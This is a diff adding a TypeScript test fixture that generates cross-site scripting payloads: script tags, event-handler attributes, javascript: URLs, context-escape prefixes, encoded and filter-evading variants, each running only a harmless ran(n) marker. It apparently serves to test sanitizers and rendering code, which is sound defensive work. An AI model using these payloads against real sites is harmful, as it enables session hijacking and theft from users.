@@ -1,0 +1,107 @@
+// Texts that are programs wherever a page takes a text for markup: each of the known ways to run a script, behind each of the
+// known ways out of where a text stands. `ran(n)` says that number n has run.
+
+/** `X` stands for the program. In quotes it may stand too: there are none in it. */
+const ways: readonly string[] = [
+  '<script>X</script>',
+  '<SCRIPT >X</SCRIPT\t>',
+  '<script type=module>X</script>',
+  '<script src="data:text/javascript,X"></script>',
+  '<img src=x onerror=X>',
+  '<img/src=x/onerror=X>',
+  '<IMG SRC=x OnErRoR="X">',
+  '<img src=x onerror=&#X>',
+  '<image src=x onerror=X>',
+  '<svg onload=X>',
+  '<svg/onload=X//',
+  '<svg><script>X</script></svg>',
+  '<svg><animate onbegin=X attributeName=x dur=1s>',
+  '<svg><set onbegin=X attributename=x>',
+  '<svg><a xlink:href="javascript:X"><text>x</text></a></svg>',
+  '<svg><foreignObject><img src=x onerror=X></foreignObject></svg>',
+  '<body onload=X>',
+  '<body onpageshow=X>',
+  '<iframe onload=X></iframe>',
+  '<iframe srcdoc="<script>X</script>"></iframe>',
+  '<iframe src="javascript:X"></iframe>',
+  '<iframe src="data:text/html,<script>X</script>"></iframe>',
+  '<object data="javascript:X"></object>',
+  '<object data=x onerror=X></object>',
+  '<embed src=x onload=X>',
+  '<video src=x onerror=X></video>',
+  '<video><source onerror=X></video>',
+  '<audio src=x onerror=X></audio>',
+  '<input autofocus onfocus=X>',
+  '<textarea autofocus onfocus=X>',
+  '<x tabindex=1 autofocus onfocus=X>',
+  '<details open ontoggle=X>',
+  '<marquee onstart=X>',
+  '<style>@keyframes x{}</style><p style="animation:x" onanimationstart=X>',
+  '<link rel=stylesheet href=x onerror=X>',
+  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=X>',
+  '<noscript><p title="</noscript><img src=x onerror=X>">',
+  '<template><img src=x onerror=X></template>',
+  '<picture><source srcset=x><img onerror=X></picture>',
+  '<a href="javascript:X">x</a>',
+  '<form action="javascript:X"><button>x</button></form>',
+  '<meta http-equiv=refresh content="0;url=javascript:X">',
+];
+
+/** Out of an attribute, an element whose text is text, a comment, a script's string. */
+const waysOut = [
+  '',
+  '">',
+  "'>",
+  '</textarea>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '-->',
+  ']]>',
+  '</p></div>',
+  '\u2028',
+  '&gt;',
+];
+
+/** Programs by other ways than markup. */
+const others: readonly string[] = [
+  'javascript:X',
+  'java\tscript:X',
+  '\u0001javascript:X',
+  'JaVaScRiPt://%0aX',
+  'data:text/html,<script>X</script>',
+  'vbscript:X',
+  '[x](javascript:X)',
+  '![x](x"onerror="X)',
+  '[x]: javascript:X',
+  '<javascript:X>',
+  "{{constructor.constructor('X')()}}",
+  '${X}',
+  '#{X}',
+  '<%= X %>',
+  "'-X-'",
+  '";X;//',
+  '\\";X;//',
+  '`${X}`',
+  '\u{ff1c}script\u{ff1e}X\u{ff1c}/script\u{ff1e}',
+  '%3Cscript%3EX%3C/script%3E',
+  '\\x3cscript\\x3eX\\x3c/script\\x3e',
+  '&lt;script&gt;X&lt;/script&gt;',
+  '&#60;script&#62;X&#60;/script&#62;',
+  '+ADw-script+AD4-X+ADw-/script+AD4-',
+  '<scr<script>ipt>X</scr</script>ipt>',
+  '<scr\u0000ipt>X</scr\u0000ipt>',
+  '<script\u200b>X</script>',
+  '\u202e<script>X</script>',
+  '{"__proto__":{"innerHTML":"<img src=x onerror=X>"}}',
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=X>"}}',
+  'x" style="x:expression(X)',
+  'x:url(javascript:X)',
+];
+
+export const payloads: readonly string[] = [...waysOut.flatMap((out) => ways.map((way) => out + way)), ...others].map(
+  (text, n) => text.replaceAll('X', `ran(${n})`),
+);
+
+/** One of each way, without the ways out. */
+export const samples: readonly string[] = payloads.slice(0, ways.length);
